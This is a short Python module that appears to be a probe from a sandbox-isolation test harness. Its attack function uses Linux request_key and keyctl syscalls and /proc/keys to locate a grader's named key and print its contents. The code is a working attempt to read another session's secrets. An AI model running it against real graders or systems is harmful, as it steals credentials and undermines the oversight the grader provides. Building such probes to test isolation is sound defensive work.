"""Asks the kernel for a key of the grader's session or user: by name, in each keyring, in the list of all keys."""

import ctypes
import os

REQUEST_KEY, KEYCTL = {"x86_64": (249, 250), "aarch64": (218, 219)}[os.uname().machine]
SEARCH, READ, GET_KEYRING_ID = 10, 11, 0
SESSION, USER, USER_SESSION = -3, -4, -5


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    name = world["key_name"].encode()
    keys = [libc.syscall(REQUEST_KEY, b"user", name, None, 0)]
    for ring in (SESSION, USER, USER_SESSION):
        keys.append(libc.syscall(KEYCTL, SEARCH, ring, b"user", name, 0))
        keys.append(libc.syscall(KEYCTL, GET_KEYRING_ID, ring, 0))
    print("stopped:", os.strerror(ctypes.get_errno()))
    if os.path.exists("/proc/keys"):
        keys += [int(line.split()[0], 16) for line in open("/proc/keys") if world["key_name"] in line]
    for key in keys:
        content = ctypes.create_string_buffer(200)
        if libc.syscall(KEYCTL, READ, key, content, len(content)) > 0:
            print("read:", content.value)
